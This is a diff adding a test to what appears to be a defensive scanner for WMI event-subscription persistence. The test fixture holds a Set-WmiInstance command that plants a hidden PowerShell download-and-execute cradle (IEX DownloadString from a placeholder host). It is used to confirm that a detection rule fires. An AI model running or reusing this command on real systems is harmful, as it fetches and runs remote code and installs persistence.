@@ -16,6 +16,8 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { scan } from '../src/scan.js';
 import { payloadHash } from '../src/analysis/stack.js';
+import { buildSubscriptions } from '../src/analysis/graph.js';
+import { evaluate } from '../src/analysis/rules.js';
 import { allowlistEntryFor, entryMatches, parseAllowlist } from '../src/analysis/allowlist.js';
 import { allowPlan } from '../src/report/html/allow.js';
 import { WMI_CLASS_PROPERTIES, EVENT_CONSUMER_BASE_PROPERTIES } from '../src/model/subscription.js';
@@ -203,4 +205,20 @@ test('every adapter on the real samples: PowerLurk (PowerShell, Sysmon), WMIGhos
   const win10 = join(samplesDir(), 'cim', 'dissect-cim-win10');
   const r = observeRepository(win10, 'WIN10', []);
   assert.ok(checkObservations('dissect-cim-win10', r.observations) > 0);
+});
+
+test('a consumer known only from the PowerShell that created it: the payload rules read that PowerShell text (meta), its values stay empty', () => {
+  // the shape of a 4104 record naming a custom consumer class with its payload inline (as fromRecord gives it)
+  const text = "Set-WmiInstance -Namespace root/subscription -Class PayloadEventConsumer -Arguments @{Name='Updater'; Payload='powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString(\"http://x/a\")'}";
+  const ps: Observation = {
+    host: 'H', source: 'powershell', action: 'created', part: 'consumer', namespace: SUB, className: 'PayloadEventConsumer', name: 'Updater',
+    time: '2021-06-10T14:12:46.151Z', user: null, file: 'ps.evtx', location: 'record 2', properties: {}, meta: { eventId: 4104, technique: 'Set-WmiInstance', text },
+  };
+  const [d] = buildSubscriptions([ps], new Set());
+  assert.ok(d);
+  assert.deepEqual(d.consumer?.values, { Name: 'Updater' });
+  const v = evaluate({ ...d, consumerChain: undefined }, []);
+  const reason = v.reasons.find((x) => x.id === 'payload-powershell');
+  assert.ok(reason, v.reasons.map((x) => x.id).join(','));
+  assert.match(reason.evidence, /PowerShell Set-WmiInstance text/);
 });
